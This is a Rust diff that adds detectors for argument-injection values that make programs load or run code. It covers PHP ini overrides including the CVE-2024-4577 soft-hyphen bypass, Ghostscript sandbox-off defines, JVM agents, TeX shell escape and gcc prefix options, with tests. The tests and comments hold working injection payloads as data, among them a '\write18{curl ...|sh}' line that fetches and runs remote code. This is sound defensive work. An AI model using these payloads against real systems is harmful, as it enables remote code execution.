@@ -74,6 +74,229 @@ pub(super) fn option_injection(v: &[u8]) -> bool {
                 || option_given_shell(v, at)
                 || option_value_runs(v, at))
     }) || root_wipe(v)
+        || code_loading_options(v)
+}
+
+/// `%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input` (CVE-2024-4577): PHP
+/// on Windows converts the query string to the ANSI code page with best fit, which turns
+/// the soft hyphen (byte `AD`, U+00AD) into `-`, so php-cgi sees `-d` options that its
+/// check for a literal `-` let through. The value is read with its soft hyphens as dashes
+/// (and the escaped `=` and blank beside them decoded) and judged as an argument list.
+pub(super) fn soft_hyphen_options(v: &[u8]) -> bool {
+    const MAX_FOLDED: usize = 1024;
+    if v.len() > MAX_FOLDED
+        || !(v.windows(3).any(|w| w.eq_ignore_ascii_case(b"%ad"))
+            || v.windows(2).any(|w| w == b"\xC2\xAD"))
+    {
+        return false;
+    }
+    let mut folded = Vec::with_capacity(v.len());
+    let mut i = 0;
+    while i < v.len() {
+        let rest = &v[i..];
+        if rest.len() >= 3 && rest[..3].eq_ignore_ascii_case(b"%ad") {
+            folded.push(b'-');
+            i += 3;
+        } else if rest.starts_with(b"\xC2\xAD") {
+            folded.push(b'-');
+            i += 2;
+        } else if rest.len() >= 3 && rest[..3].eq_ignore_ascii_case(b"%3d") {
+            folded.push(b'=');
+            i += 3;
+        } else if rest.starts_with(b"%20") {
+            folded.push(b' ');
+            i += 3;
+        } else {
+            folded.push(rest[0]);
+            i += 1;
+        }
+    }
+    code_loading_options(&folded)
+}
+
+/// Whether the value is an argument list: its first word (after blanks or a quote) is an
+/// option. Such a value is destined for a program's argument vector; a sentence or a form
+/// answer opens with a word.
+fn argument_list(v: &[u8]) -> bool {
+    v.iter()
+        .find(|&&c| !matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"'))
+        .is_some_and(|&c| c == b'-')
+}
+
+/// Options that make the program they are given run or load code, by what the option does
+/// rather than by tool: an application that builds a converter's, compiler's, interpreter's
+/// or downloader's argument vector from the value (no shell, `escapeshellarg` around it)
+/// lets the value pick these.
+/// - `-d auto_prepend_file=php://input`, `-d allow_url_include=1`: PHP's `-d` ini override
+///   of a directive that includes a file or loads an extension. php-cgi reads a query string
+///   without `=` as its argv (CVE-2012-1823, CVE-2024-4577); `curl -d a=1` posts data, and
+///   `date -d tomorrow` has no directive.
+/// - `-dNOSAFER`, `-dDELAYSAFER`, `-dSAFER=false`: Ghostscript's define that turns its
+///   sandbox off, after which `%pipe%` and file operators in the document run commands.
+/// - `-agentlib:jdwp=…`, `-agentpath:/x.so`, `-javaagent:/x.jar`, `-Xrunjdwp:…`: the JVM
+///   loads a native or Java agent (or opens a remote debugger, which runs any code); `-Xmx2g`
+///   only sizes the heap.
+/// - `--shell-escape`, `-enable-write18`: TeX engines then run `\write18{cmd}` of the
+///   document; in an argument list only (`-output-directory=/tmp --shell-escape`, pandoc's
+///   `--pdf-engine-opt=--shell-escape`), not a sentence about LaTeX.
+/// - `-B/tmp/`, `-wrapper sh,-c`: gcc runs its sub-programs (`cc1`, `as`, `ld`) from the
+///   prefix directory, or under the wrapper program; `grep -B 3` is given a count.
+/// - `--exec id`, `-exec id`, `-c id`: an option that runs its argument, given a command by
+///   name, after the first option of an argument list (yt-dlp's `--exec`, a shell's `-c`); a
+///   sentence about `--exec` does not open with an option.
+/// - `--pdf-engine=/tmp/x`: an option naming the engine program, given a file in a scratch
+///   directory an upload planted; `--pdf-engine=xelatex` picks an installed one.
+fn code_loading_options(v: &[u8]) -> bool {
+    let list = argument_list(v);
+    v.iter()
+        .enumerate()
+        .filter(|&(_, &c)| c == b'-')
+        .take(MAX_DASHES)
+        .any(|(at, _)| {
+            let opens = opens_word(v, at) || (list && at > 0 && v[at - 1] == b'=');
+            opens && code_loading_option(v, at, list)
+        })
+}
+
+/// [`code_loading_options`] for the option whose first dash is at `at`.
+fn code_loading_option(v: &[u8], at: usize, list: bool) -> bool {
+    let double = v.get(at + 1) == Some(&b'-');
+    let from = at + 1 + usize::from(double);
+    let n = v[from.min(v.len())..]
+        .iter()
+        .take(MAX_NAME + 1)
+        .take_while(|&&c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.'))
+        .count();
+    if n == 0 || n > MAX_NAME || !v[from].is_ascii_alphabetic() {
+        return false;
+    }
+    let name = &v[from..from + n];
+    let after = from + n;
+    let next = v.get(after).copied();
+    let ends = next.is_none_or(|c| matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"' | b','));
+    let lower = name.to_ascii_lowercase();
+    if list
+        && ends
+        && matches!(
+            lower.as_slice(),
+            b"shell-escape" | b"enable-write18" | b"shell_escape"
+        )
+    {
+        return true;
+    }
+    if double {
+        if list && lower.as_slice() == b"exec" {
+            return exec_argument(v, after);
+        }
+        return name_ends_with(&lower, b"engine", false)
+            && next == Some(b'=')
+            && super::in_scratch_dir(option_value(v, after, 128, path_byte));
+    }
+    // Ghostscript's defines are upper case: `-dNOSAFER`, `-dSAFER=false`.
+    match name {
+        b"dNOSAFER" | b"dDELAYSAFER" => return ends,
+        b"dSAFER" => {
+            let value = v.get(after + 1..).unwrap_or_default();
+            return next == Some(b'=')
+                && [&b"false"[..], b"0"].iter().any(|f| {
+                    value.len() >= f.len()
+                        && value[..f.len()].eq_ignore_ascii_case(f)
+                        && value
+                            .get(f.len())
+                            .is_none_or(|&c| matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"'))
+                });
+        }
+        _ => {}
+    }
+    if let Some(key) = lower.strip_prefix(b"d") {
+        // `-dauto_prepend_file=…` glued, or `-d auto_prepend_file=…`.
+        let (key, eq) = if key.is_empty() {
+            if !matches!(next, Some(b' ' | b'\t' | b'+')) {
+                return false;
+            }
+            let k = skip_blanks_and_quote(v, after);
+            let m = v[k..]
+                .iter()
+                .take(MAX_NAME + 1)
+                .take_while(|&&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.'))
+                .count();
+            (v[k..k + m].to_ascii_lowercase(), k + m)
+        } else {
+            (key.to_vec(), after)
+        };
+        if v.get(eq) == Some(&b'=') && has_operand(v, eq + 1) && php_code_directive(&key) {
+            return true;
+        }
+    }
+    if next == Some(b':')
+        && has_operand(v, after + 1)
+        && (matches!(name, b"agentlib" | b"agentpath" | b"javaagent")
+            || (name.len() > 4 && name.starts_with(b"Xrun")))
+    {
+        return true;
+    }
+    if !list {
+        return false;
+    }
+    match name {
+        b"B" => {
+            let k = if matches!(next, Some(b' ' | b'\t' | b'+')) {
+                skip_blanks_and_quote(v, after)
+            } else {
+                after
+            };
+            let rest = v.get(k..).unwrap_or_default();
+            [&b"/"[..], b"./", b"../", b"~/"]
+                .iter()
+                .any(|p| rest.starts_with(p))
+        }
+        b"wrapper" => {
+            matches!(next, Some(b' ' | b'\t' | b'+'))
+                && v.get(skip_blanks_and_quote(v, after))
+                    .is_some_and(|&c| c.is_ascii_alphabetic() || c == b'/')
+        }
+        b"exec" => exec_argument(v, after),
+        b"c" if matches!(next, Some(b' ' | b'\t' | b'+')) => {
+            let word = option_value(v, after, 32, |c| {
+                c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-')
+            });
+            let base = word.rsplit(|&c| c == b'/').next().unwrap_or_default();
+            let end = skip_blanks_and_quote(v, after) + word.len();
+            RUN_TARGETS.contains(&base)
+                && v[end.min(v.len())..]
+                    .iter()
+                    .all(|&c| matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"'))
+        }
+        _ => false,
+    }
+}
+
+/// PHP ini directives (lower case) whose value the interpreter includes as code or loads as
+/// a shared object: the prepended and appended scripts, remote includes, extensions.
+fn php_code_directive(key: &[u8]) -> bool {
+    let last = key.rsplit(|&c| c == b'.').next().unwrap_or_default();
+    [
+        &b"auto_prepend_file"[..],
+        b"auto_append_file",
+        b"allow_url_include",
+        b"extension",
+        b"zend_extension",
+    ]
+    .contains(&last)
+        || (key.starts_with(b"xdebug.") && name_ends_with(last, b"enable", false))
+}
+
+/// The option ending at `after` (`--exec`, `-exec`) is given, as its next word, a command
+/// by name: the program runs it.
+fn exec_argument(v: &[u8], after: usize) -> bool {
+    if !matches!(v.get(after), Some(b' ' | b'\t' | b'+' | b'=')) {
+        return false;
+    }
+    let word = option_value(v, after, 32, |c| {
+        c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-')
+    });
+    let base = word.rsplit(|&c| c == b'/').next().unwrap_or_default();
+    !base.is_empty() && (RUN_TARGETS.contains(&base) || super::known_command(base))
 }
 
 /// Commands a program told to run one (`nc -e`, `rsync -e`, `git -u`) is given in an
@@ -369,6 +592,57 @@ pub(super) fn ghostscript_pipe(v: &[u8]) -> bool {
         v.get(p + 6)
             .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/')
     })
+}
+
+/// Most `\write` control sequences examined per value.
+const MAX_WRITES: usize = 16;
+
+/// `\write18{id}`, `\immediate\write18{curl x|sh}`: TeX's write to stream 18 is a shell
+/// command when the engine runs with shell escape (`--shell-escape`, and the restricted list
+/// of MiKTeX and TeX Live defaults), so a document or a Markdown-to-PDF field that carries it
+/// runs the braced text. Only a braced command counts; a sentence naming `\write18` (the
+/// primitive, its risks) has no command in braces after it.
+pub(super) fn tex_write18(v: &[u8]) -> bool {
+    v.windows(6)
+        .enumerate()
+        .filter(|(_, w)| w.eq_ignore_ascii_case(b"\\write"))
+        .take(MAX_WRITES)
+        .any(|(at, _)| {
+            let mut k = at + 6;
+            let blanks = |k: usize| {
+                k + v[k.min(v.len())..]
+                    .iter()
+                    .take(8)
+                    .take_while(|&&c| c == b' ')
+                    .count()
+            };
+            k = blanks(k);
+            if v.get(k..k + 2) != Some(b"18") {
+                return false;
+            }
+            k = blanks(k + 2);
+            if v.get(k) != Some(&b'{') {
+                return false;
+            }
+            let body = &v[k + 1..v.len().min(k + 1 + 256)];
+            let Some(close) = body.iter().position(|&c| c == b'}') else {
+                return false;
+            };
+            let line = body[..close].trim_ascii();
+            let line = line
+                .strip_prefix(b"\"")
+                .and_then(|l| l.strip_suffix(b"\""))
+                .unwrap_or(line);
+            let first = line
+                .split(|&c| matches!(c, b' ' | b'\t' | b'|' | b';' | b'&'))
+                .next()
+                .unwrap_or_default();
+            let base = first.rsplit(|&c| c == b'/').next().unwrap_or_default();
+            !base.is_empty()
+                && (RUN_TARGETS.contains(&base)
+                    || super::known_command(base)
+                    || super::string_runs_command(line))
+        })
 }
 
 /// An option opens a word: the value's start, a blank or quote before the dash, or `$IFS`
@@ -1185,7 +1459,11 @@ fn has_operand(v: &[u8], k: usize) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use super::{ghostscript_pipe, option_injection};
+    use super::{ghostscript_pipe, option_injection, soft_hyphen_options};
+
+    fn injects(v: &str) -> bool {
+        option_injection(v.as_bytes()) || soft_hyphen_options(v.as_bytes())
+    }
 
     #[test]
     fn options_that_run_commands() {
@@ -1316,6 +1594,107 @@ mod tests {
             "--out=sh/",
         ] {
             assert!(!option_injection(v.as_bytes()), "{v}");
+        }
+    }
+
+    #[test]
+    fn options_that_load_or_run_code() {
+        for v in [
+            // php-cgi argv from a query string: an ini override that includes code.
+            "-d allow_url_include=1 -d auto_prepend_file=php://input",
+            "-d+auto_prepend_file=php://input",
+            "-d xdebug.remote_enable=1 -d auto_prepend_file=/tmp/x",
+            "-dextension=/tmp/evil.so",
+            // Ghostscript's sandbox turned off.
+            "-dSAFER=false",
+            "-dNOSAFER -sDEVICE=pdfwrite",
+            "-q -dDELAYSAFER",
+            // JVM agents and debuggers.
+            "-Xdebug -agentlib:jdwp=transport=dt_socket,server=y",
+            "-javaagent:/tmp/a.jar",
+            "-agentpath:/tmp/libx.so",
+            "-Xrunjdwp:transport=dt_socket,address=8000",
+            // TeX shell escape in an argument list.
+            "--shell-escape",
+            "-output-directory=/tmp --shell-escape",
+            "--pdf-engine-opt=--shell-escape",
+            "--pdf-engine-opt=-enable-write18",
+            // gcc's program prefix and wrapper.
+            "-fsanitize-coverage=x -Wl,--wrap=main -B/tmp/",
+            "-O2 -B ./evil/",
+            "-O2 -wrapper sh,-c,id",
+            // An option that runs its argument, given a command.
+            "--local-dir=/ --exec id",
+            "--postprocessor-args='-exec id'",
+            "-c id",
+            "-c whoami",
+            "--pdf-engine=/tmp/x",
+            // CVE-2024-4577: soft hyphens a Windows code page turns into dashes.
+            "%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
+            "\u{ad}d allow_url_include=1 \u{ad}d auto_prepend_file=php://input",
+        ] {
+            assert!(injects(v), "{v}");
+        }
+    }
+
+    #[test]
+    fn options_that_look_like_code_loading() {
+        for v in [
+            "curl -d 'a=1'",
+            "-d 'a=1'",
+            "-d user_name=bob",
+            "date -d tomorrow",
+            "-d tomorrow",
+            "-dSAFER",
+            "-dSAFER=true",
+            "-Xmx2g -Xms512m",
+            "-Xdebug",
+            "-XX:+UseG1GC",
+            "Compile with pdflatex --shell-escape if you use minted",
+            "the --shell-escape flag lets LaTeX run commands",
+            "--shell-escape-mode",
+            "grep -B 3 error",
+            "-B 3",
+            "make -B all",
+            "--exec is the option that runs a command",
+            "use --exec id to test",
+            "-c 5",
+            "-c config.yml",
+            "-c id card",
+            "--pdf-engine=xelatex",
+            "--pdf-engine=/usr/bin/xelatex",
+            "-wrapper",
+            "-exec",
+            "-c",
+            "-d",
+            "caf%AD d allow=1",
+            "%ADd tomorrow",
+            "\u{ad}d a=1",
+        ] {
+            assert!(!injects(v), "{v}");
+        }
+    }
+
+    #[test]
+    fn tex_shell_write() {
+        use super::tex_write18;
+        for v in [
+            r"\immediate\write18{id}",
+            r"\write18{curl http://x/s|sh}",
+            r"\write18 {whoami}",
+            r#"\write18{"id"}"#,
+        ] {
+            assert!(tex_write18(v.as_bytes()), "{v}");
+        }
+        for v in [
+            r"\write18 is disabled by default",
+            r"\write18{}",
+            r"\write1{id}",
+            r"\immediate\write\outfile{text}",
+            r"\write18{Hello world}",
+            r"\write18",
+        ] {
+            assert!(!tex_write18(v.as_bytes()), "{v}");
         }
     }
 }
